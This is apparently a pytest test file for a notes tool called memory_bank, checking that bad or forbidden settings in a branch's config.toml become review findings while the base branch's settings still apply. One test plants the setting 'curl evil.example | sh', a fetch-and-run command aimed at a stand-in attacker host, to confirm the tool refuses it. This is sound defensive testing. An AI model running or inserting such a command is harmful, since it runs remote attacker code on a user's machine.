"""A change that breaks the settings is reviewed, and the settings are findings of it."""

from collections.abc import Callable
from pathlib import Path

import pytest

from memory_bank.bank.bank import open_bank
from memory_bank.base.errors import BadSetting
from memory_bank.review.records import Review
from memory_bank.review.review import opened, review

Git = Callable[..., str]
OURS = """[lint.severity]
html-comment = "off"

[memory]
embedder = "none"
"""
BAD = {
    "an unknown setting": ("[search]\nlimits = 3\n", 2, "unknown setting 'search.limits'"),
    "a wrong value": ("[search]\nlimit = 'many'\n", 2, "search.limit: 'many' is not"),
    "a wrong table": ("[lint.severity]\nx = 3\n", 2, "lint.severity.x: 3 is no severity"),
    "no TOML": ("[search]\n\nlimit = \n", 3, "Invalid value (at line 3"),
    "no text": ("\udcff\udcfe", 1, "can't be read"),
    "a size": ("# x\n" * 300_000, 1, "larger than"),
}


@pytest.fixture
def topic(project: Path, git: Git) -> Callable[[str], None]:
    """Commit settings to a branch that also has a new note; its base has good settings."""
    (project / ".memories/config.toml").write_text(OURS)
    git(project, "add", "-A")
    git(project, "commit", "-qm", "Settings")
    git(project, "branch", "base")

    def commit(text: str) -> None:
        (project / ".memories/config.toml").write_bytes(text.encode("utf-8", "surrogateescape"))
        (project / ".memories/new.md").write_text("# New\n\n<!-- unseen -->\n\nSee [[nowhere]].\n")
        git(project, "add", "-A")
        git(project, "commit", "-qm", "Change")

    return commit


def reviewed(project: Path, **how: bool) -> Review:
    with opened(str(project), "base" if how else "base..HEAD", **how) as bank:
        return review(bank, "base" if how else "base..HEAD", **how)


def found(report: Review) -> list[tuple[str, int, bool]]:
    return [
        (one.message, one.line, one.new) for one in report.findings if one.rule == "bad-setting"
    ]


@pytest.mark.parametrize(("text", "line", "words"), BAD.values(), ids=BAD)
def test_a_bad_setting_is_a_finding_and_those_of_the_base_hold(
    project: Path, topic: Callable[[str], None], text: str, line: int, words: str
) -> None:
    topic(text)
    with pytest.raises(BadSetting):
        open_bank(project)
    report = reviewed(project)
    ((message, at, new),) = found(report)
    assert words in message
    assert (at, new) == (line, True)
    assert [one.path for one in report.changes if one.kind == "added"] == ["new.md"]
    assert {"ghost-made", "bad-setting"} <= {one.rule for one in report.findings}
    assert "html-comment" not in {one.rule for one in report.findings}, "the base's settings"
    assert report.worst == "error"
    assert any("those of its base hold" in one for one in report.notices)
    assert str(project.parent) not in message


@pytest.mark.parametrize("how", [{"worktree": True}, {"staged": True}])
def test_so_is_one_that_is_not_committed(
    project: Path, topic: Callable[[str], None], how: dict[str, bool], git: Git
) -> None:
    topic(OURS)
    (project / ".memories/config.toml").write_text("[search\n")
    git(project, "add", "-A")
    report = reviewed(project, **how)
    assert [line for _, line, _ in found(report)] == [1]
    assert "html-comment" not in {one.rule for one in report.findings}


def test_what_a_project_may_not_set_is_a_finding_and_all_else_holds(
    project: Path, topic: Callable[[str], None]
) -> None:
    topic('[compression]\ncommand = "curl evil.example | sh"\n')
    report = reviewed(project)
    ((message, line, new),) = found(report)
    assert message == "compression.command may not be set by a project: it is ignored"
    assert (line, new) == (2, True)
    assert "html-comment" in {one.rule for one in report.findings}


def test_a_branch_that_is_not_checked_out_is_reviewed_so_too(
    project: Path, topic: Callable[[str], None], git: Git
) -> None:
    topic("[search]\nlimits = 3\n")
    git(project, "branch", "topic")
    git(project, "checkout", "-q", "base")
    with open_bank(project) as bank:
        report = review(bank, "base..topic")
    assert len(found(report)) == 1
    assert "html-comment" not in {one.rule for one in report.findings}


def test_what_was_bad_before_is_not_new_and_can_be_repaired(
    project: Path, topic: Callable[[str], None], git: Git
) -> None:
    topic("[search]\nlimits = 3\n")
    git(project, "branch", "-f", "base")
    (project / ".memories/facts/bm25.md").write_text("# BM25\n\nChanged.\n")
    git(project, "commit", "-qam", "Change a note")
    assert [new for _, _, new in found(reviewed(project))] in ([], [False])
    (project / ".memories/config.toml").write_text(OURS)
    git(project, "commit", "-qam", "Repair")
    assert found(reviewed(project)) == []


def test_the_users_own_bad_setting_is_an_error(
    project: Path, topic: Callable[[str], None], monkeypatch: pytest.MonkeyPatch
) -> None:
    topic(OURS)
    monkeypatch.setenv("MEMORY_BANK_SEARCH_LIMIT", "many")
    with pytest.raises(BadSetting, match="MEMORY_BANK_SEARCH_LIMIT"):
        reviewed(project)
